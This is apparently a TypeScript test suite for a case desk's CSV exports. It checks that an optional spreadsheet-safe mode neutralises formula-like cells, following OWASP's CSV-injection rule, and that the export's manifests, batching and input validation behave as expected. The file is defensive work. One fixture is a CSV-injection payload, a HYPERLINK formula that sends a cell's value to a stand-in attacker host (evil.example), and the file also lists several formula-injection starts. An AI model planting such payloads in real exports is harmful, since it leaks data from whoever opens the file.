/**
 * Spreadsheet-safe CSV exports: text a provider or a person wrote that starts like a formula
 * is prefixed with `'` in the `spreadsheetSafe=true` variant, made in SQL so COPY (Postgres)
 * and the keyset batches (embedded) give the same bytes; the default export keeps the
 * database's exact text; each variant's manifest certifies its own bytes.
 */
import { randomUUID } from 'node:crypto';
import { onboardApplication } from '@desk/server';
import { batchSource, consentPlan, type ExportPlan, statusHistoryPlan } from '@desk/server/internals';
import {
  type ApplicationDetail,
  consentExportQuerySchema,
  type ErrorBody,
  type ExportManifest,
  statusHistoryExportQuerySchema,
} from '@desk/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { applicant, eventually } from '../support/applicants.js';
import { databaseKinds } from '../support/databases.js';
import { startTestDesk, type TestDesk } from '../support/desk.js';
import { expectedConsents, expectedStatusHistory } from '../support/export-expectations.js';
import { csvRows, type Row, sha256 } from '../support/export-files.js';
import { sendJikoEvent } from '../support/jiko-events.js';
import { startWebhookSink, type WebhookSink } from '../support/webhook-sink.js';

/** What a provider sends as its event type, which the desk records as the change's reason. */
const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the case")';
/** Reasons starting with each character a spreadsheet reads as a formula, and some that do not. */
const formulaReasons = [
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  "'already quoted",
  ' =1+1',
  'a=b',
  '',
  '≠ 1',
];
const formulaVersion = '@SUM(1+1)';

/** The OWASP rule, stated independently of the desk's SQL: `'` before a formula-like start. */
const guarded = (value: string | null) => (value !== null && /^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
/** The columns the desk formats itself (UUIDs, instants); every other column is written text. */
const formatted = new Set([
  'application_id',
  'customer_id',
  'changed_at_utc',
  'consented_at_utc',
  'version_released_at_utc',
  'was_latest_at_consent',
]);
const guardedRows = (rows: Row[]) =>
  rows.map((r) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, formatted.has(k) ? v : guarded(v)])));

describe.each(databaseKinds)('Spreadsheet-safe exports on %s database', (kind) => {
  let desk: TestDesk;
  let webhookCase: string;
  let sink: WebhookSink;

  beforeAll(async () => {
    // Webhooks from the provider go nowhere: the only one the desk hears is the test's own.
    sink = await startWebhookSink();
    desk = await startTestDesk(kind, { demoCount: 20, publicUrl: sink.url });

    // Through the real path: the provider decides, and its webhook's event type (its own
    // words) becomes the reason of the status change the desk records.
    const { applicationId, providerApplicationId } = await onboardApplication(desk, 'jiko', applicant('4'));
    webhookCase = applicationId;
    expect((await desk.post(`/api/applications/${applicationId}/reapply`)).status).toBe(202);
    const caseOf = async () => (await desk.get<ApplicationDetail>(`/api/applications/${applicationId}`)).body;
    await eventually(
      caseOf,
      (c) => c.providerStatus === 'SUBMITTED' && c.providerActions.every((a) => a.state === 'done'),
    );
    const sendEvent = async () => {
      const res = await sendJikoEvent(desk.url, {
        id: `evt-${randomUUID()}`,
        type: hyperlink,
        applicationId: providerApplicationId,
      });
      expect(res.status).toBe(200);
    };
    // The sandbox decides a moment after the re-apply; each event makes the desk read it again.
    await eventually(
      async () => {
        await sendEvent();
        return caseOf();
      },
      (c) => c.providerStatus === 'APPROVED',
    );

    // Every other formula start, and text that must stay as it is, written as an import would.
    await desk.db
      .insertInto('status_history')
      .values(
        formulaReasons.map((reason, i) => ({
          application_id: webhookCase,
          from_status: 'APPROVED',
          to_status: 'APPROVED',
          from_stage: 'approved' as const,
          to_stage: 'approved' as const,
          at: new Date(Date.UTC(2031, 5, 1, 0, 0, 0, i)),
          source: 'import' as const,
          actor_id: null,
          reason,
        })),
      )
      .execute();
    await desk.db
      .updateTable('applications')
      .set({ agreement_version: formulaVersion })
      .where('id', '=', webhookCase)
      .execute();
  });
  afterAll(async () => {
    await desk?.stop();
    await sink?.close();
  });

  async function download(path: string) {
    const res = await desk.as('auditor').fetch(path);
    const bytes = Buffer.from(await res.arrayBuffer());
    return { res, bytes, text: bytes.toString('utf8') };
  }
  const manifestOf = async (res: Response) =>
    (await desk.as('auditor').get<ExportManifest>(`/api/exports/${res.headers.get('x-export-id') ?? ''}/manifest`))
      .body;

  it("When the provider's webhook carries a formula, then the default export keeps it exactly and the spreadsheet-safe one prefixes it", async () => {
    const expected = await expectedStatusHistory(desk.db);
    const fromWebhook = expected.filter((r) => r.application_id === webhookCase && r.source === 'provider_webhook');
    expect(fromWebhook.map((r) => [r.to_status, r.reason])).toEqual([['APPROVED', hyperlink]]);

    const plain = await download('/api/exports/status-history?format=csv');
    expect(plain.res.status).toBe(200);
    expect(csvRows(plain.text).rows).toEqual(expected);
    expect(plain.text).toContain(`,"${hyperlink.replaceAll('"', '""')}"\n`);

    const safe = await download('/api/exports/status-history?format=csv&spreadsheetSafe=true');
    expect(safe.res.status).toBe(200);
    expect(safe.res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const rows = csvRows(safe.text).rows;
    expect(rows).toEqual(guardedRows(expected));
    expect(rows.find((r) => r.source === 'provider_webhook' && r.application_id === webhookCase)?.reason).toBe(
      `'${hyperlink}`,
    );
    const imported = rows.filter((r) => r.application_id === webhookCase && r.source === 'import').map((r) => r.reason);
    expect(imported).toEqual([
      "'+1+1",
      "'-2+3",
      "'@SUM(A1:A2)",
      "'\t=1+1",
      "'\r=1+1",
      "'already quoted",
      ' =1+1',
      'a=b',
      '',
      '≠ 1',
    ]);
    // Nothing else changes: one byte more for each guarded cell.
    const guardedCells = expected
      .flatMap((r) => Object.entries(r))
      .filter(([k, v]) => !formatted.has(k) && guarded(v) !== v).length;
    expect(guardedCells).toBeGreaterThanOrEqual(6);
    expect(safe.bytes.length - plain.bytes.length).toBe(guardedCells);
  });

  it('When consents are exported spreadsheet-safe, then a formula-like agreement version is prefixed and the rest is as in the default', async () => {
    const expected = await expectedConsents(desk.db);
    expect(expected.find((r) => r.application_id === webhookCase)?.agreement_version).toBe(formulaVersion);
    expect(csvRows((await download('/api/exports/consents')).text).rows).toEqual(expected);
    const safe = csvRows((await download('/api/exports/consents?spreadsheetSafe=true')).text).rows;
    expect(safe).toEqual(guardedRows(expected));
    expect(safe.find((r) => r.application_id === webhookCase)?.agreement_version).toBe(`'${formulaVersion}`);
  });

  it('When a spreadsheet-safe export completes, then its manifest names the variant and certifies its own bytes', async () => {
    const plain = await download('/api/exports/status-history?format=csv&provider=jiko');
    const safe = await download('/api/exports/status-history?format=csv&provider=jiko&spreadsheetSafe=true');
    expect(safe.bytes.equals(plain.bytes)).toBe(false);
    const plainManifest = await manifestOf(plain.res);
    const safeManifest = await manifestOf(safe.res);
    expect(plainManifest).toMatchObject({
      format: 'csv',
      spreadsheetSafe: false,
      filters: { provider: 'jiko' },
      sha256: sha256(plain.bytes),
    });
    expect(plainManifest.filters).not.toHaveProperty('spreadsheetSafe');
    expect(safeManifest).toMatchObject({
      state: 'complete',
      kind: 'status_history',
      format: 'csv',
      spreadsheetSafe: true,
      filters: { provider: 'jiko', spreadsheetSafe: 'true' },
      sha256: sha256(safe.bytes),
      byteCount: safe.bytes.length,
      rowCount: csvRows(safe.text).rows.length,
    });
    expect(safeManifest.rowCount).toBe(plainManifest.rowCount);
    const started = await desk.db
      .selectFrom('audit_events')
      .select('data')
      .where('action', '=', 'export.started')
      .where('entity_id', '=', safeManifest.id)
      .executeTakeFirstOrThrow();
    expect(started.data).toMatchObject({
      kind: 'status_history',
      format: 'csv',
      filters: { provider: 'jiko', spreadsheetSafe: 'true' },
    });
  });

  it('When spreadsheet-safe rows are read in keyset batches, then the bytes are exactly those this database is served with', async () => {
    const variants: { path: string; plan: ExportPlan }[] = [
      {
        path: '/api/exports/status-history?format=csv&spreadsheetSafe=true',
        plan: statusHistoryPlan(statusHistoryExportQuerySchema.parse({ format: 'csv', spreadsheetSafe: 'true' })),
      },
      {
        path: `/api/exports/status-history?spreadsheetSafe=true&applicationId=${webhookCase}`,
        plan: statusHistoryPlan(
          statusHistoryExportQuerySchema.parse({ spreadsheetSafe: 'true', applicationId: webhookCase }),
        ),
      },
      {
        path: '/api/exports/consents?spreadsheetSafe=true',
        plan: consentPlan(consentExportQuerySchema.parse({ spreadsheetSafe: 'true' })),
      },
    ];
    for (const { path, plan } of variants) {
      // Served: COPY on Postgres, 5,000-row batches on the embedded database.
      const served = (await download(path)).bytes;
      expect(served.toString('utf8'), path).toContain("'");
      for (const batchSize of [1, 7, 5000]) {
        const source = batchSource(desk.db, plan, batchSize);
        const chunks: Buffer[] = [];
        for await (const chunk of source.stream) chunks.push(Buffer.from(chunk as Uint8Array));
        await source.release(false);
        expect(Buffer.concat(chunks).equals(served), `${path} in batches of ${batchSize}`).toBe(true);
      }
    }
  });

  it('When the variant is asked for NDJSON or with a value other than true or false, then it is 400 naming spreadsheetSafe and no run is recorded', async () => {
    const runs = async () => (await desk.db.selectFrom('export_runs').select('id').execute()).length;
    const before = await runs();
    for (const path of [
      '/api/exports/status-history?format=ndjson&spreadsheetSafe=true',
      '/api/exports/consents?format=ndjson&spreadsheetSafe=true',
      '/api/exports/status-history?spreadsheetSafe=yes',
      '/api/exports/consents?spreadsheetSafe=',
    ]) {
      const res = await desk.as('auditor').get<ErrorBody>(path);
      expect(res.status, path).toBe(400);
      expect(Object.keys(res.body.errors ?? {}), path).toEqual(['spreadsheetSafe']);
    }
    expect(await runs()).toBe(before);
    // Off is the default export, byte for byte.
    const off = await download('/api/exports/consents?spreadsheetSafe=false');
    expect(off.bytes.equals((await download('/api/exports/consents')).bytes)).toBe(true);
  });
});
